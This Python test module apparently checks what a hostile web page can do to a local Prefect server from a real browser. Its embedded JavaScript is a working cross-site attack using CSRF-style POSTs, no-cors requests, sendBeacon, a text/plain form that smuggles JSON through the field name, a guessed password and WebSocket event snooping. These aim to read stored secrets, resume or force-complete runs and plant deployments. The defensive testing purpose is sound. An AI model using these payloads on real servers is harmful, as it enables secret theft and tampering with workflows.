"""What a web page of somebody else tries with a Prefect server of this machine, in a real browser, and what it gets."""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from uuid import uuid4

from playwright.sync_api import Page, sync_playwright

from caseproof.evidence.browser import ARGUMENTS, require_browser
from sandbox.processes import PrefectServer
from sandbox.world import World

# Each thing in each way that a page has: asking the browser first, not asking it (a body without a type, or plain
# text), not wanting the answer, leaving it to the browser, a form, and with a password that is only guessed.
ATTACK = """async ({api, asks, patience}) => {
    const told = [];
    const attempt = async work => { try { told.push(String(await work())); } catch (error) { told.push(""); } };
    const sent = (path, body, more) => fetch(api + path, {method: "POST", body, ...more}).then(got => got.text());
    const typed = {headers: {"Content-Type": "application/json"}};
    const guessed = {headers: {...typed.headers, "Authorization": "Basic " + btoa("caseproof:caseproof")}};
    for (const [path, asked] of asks) {
        const body = JSON.stringify(asked), bare = () => new Blob([body]);
        await attempt(() => sent(path, body, typed));
        await attempt(() => sent(path, body, {...typed, credentials: "include"}));
        await attempt(() => sent(path, body, guessed));
        await attempt(() => sent(path, body, {headers: {"Content-Type": "text/plain"}}));
        await attempt(() => sent(path, bare(), {}));
        await attempt(() => sent(path, bare(), {mode: "no-cors", credentials: "include"}));
        navigator.sendBeacon(api + path, bare());
        const form = document.createElement("form"), frame = document.createElement("iframe");
        frame.name = "f" + Math.random();
        Object.assign(form, {method: "POST", action: api + path, enctype: "text/plain", target: frame.name});
        const field = document.createElement("input");
        Object.assign(field, {name: body.slice(0, -1) + ', "x": "', value: '"}'});
        form.append(field);
        document.body.append(frame, form);
        await new Promise(loaded => { frame.onload = loaded; form.submit(); setTimeout(loaded, 1000); });
    }
    const events = [];
    const heard = (path, names, ...says) => new Promise((enough, over) => {
        const socket = new WebSocket(api.replace("http", "ws") + path, names), got = [];
        events.push(got);
        socket.onopen = () => says.forEach(one => socket.send(JSON.stringify(one)));
        socket.onmessage = message => { got.push(message.data); if (got.length > 2) enough(); };
        socket.onerror = socket.onclose = over;
    });
    const filter = {type: "filter", filter: {}}, auth = token => ({type: "auth", token});
    const one = Promise.any([
        heard("events/out", [], filter),
        heard("events/out", ["prefect"], auth(null), filter),
        heard("events/out", ["prefect"], auth("caseproof:caseproof"), filter),
        heard("events/out", ["prefect"], filter),
    ]).catch(() => {});
    const [path, asked] = asks[2];  // so that there is something to hear
    const again = setInterval(() => attempt(() => sent(path, JSON.stringify(asked), typed)), 1000);
    await Promise.race([one, new Promise(over => setTimeout(over, patience))]);
    clearInterval(again);
    return {told, events: events.map(got => got.join())};
}"""


@dataclass(frozen=True)
class Spoils:
    """What the page got: a block's password, a resumed run, a run that is called Completed, a deployment, events."""

    read: bool = False
    resumed: bool = False
    completed: bool = False
    deployed: bool = False
    listened: bool = False


@contextmanager
def browser_tab() -> Iterator[Page]:
    """A tab of a real browser without any earlier state."""
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=require_browser(), args=list(ARGUMENTS))
        try:
            yield browser.new_page()
        finally:
            browser.close()


def attacked(tab: Page, server: PrefectServer, patience: float = 1.5) -> Spoils:
    """Have the page that is open in the tab try everything; what of it took place, as the server tells afterwards.

    It listens until it has heard something, so many seconds at most.
    """
    secret, name = f"hunter-{uuid4().hex}", f"planted-{uuid4().hex}"
    _save_secret(server, secret)
    flow = World.call(server, "POST", "flows/", json={"name": "attacked"}).json()["id"]
    waits, runs = (_run(server, flow, state) for state in ("PAUSED", "RUNNING"))
    asks = [
        ("block_documents/filter", {"include_secrets": True}),
        (f"flow_runs/{waits}/resume", {"run_input": {}}),
        (f"flow_runs/{runs}/set_state", {"state": {"type": "COMPLETED", "name": "Completed"}, "force": True}),
        ("deployments/", {"name": name, "flow_id": flow}),
    ]
    got = tab.evaluate(ATTACK, {"api": f"{server.api_url}/", "asks": asks, "patience": patience * 1000})
    deployments = World.call(server, "POST", "deployments/filter", json={"deployments": {"name": {"any_": [name]}}})
    return Spoils(
        read=secret in json.dumps(got),
        resumed=_state(server, waits) != "PAUSED",
        completed=_state(server, runs) == "COMPLETED",
        deployed=bool(deployments.json()),
        listened=any('"event"' in events for events in got["events"]),
    )


def _save_secret(server: PrefectServer, secret: str) -> None:
    kind = World.call(server, "GET", "block_types/slug/secret").json()["id"]
    schemas = World.call(
        server, "POST", "block_schemas/filter", json={"block_schemas": {"block_type_id": {"any_": [kind]}}}
    ).json()
    block = {
        "name": f"of-a-test-{uuid4().hex[:8]}", "data": {"value": secret}, "block_type_id": kind,
        "block_schema_id": schemas[0]["id"],
    }  # fmt: skip
    World.call(server, "POST", "block_documents/", json=block)


def _run(server: PrefectServer, flow: str, state: str) -> str:
    asked = {"flow_id": flow, "state": {"type": "RUNNING"}}
    run = str(World.call(server, "POST", "flow_runs/", json=asked).json()["id"])
    World.call(server, "POST", f"flow_runs/{run}/set_state", json={"state": {"type": state}, "force": True})
    return run


def _state(server: PrefectServer, run: str) -> str:
    return str(World.call(server, "GET", f"flow_runs/{run}").json()["state"]["type"])
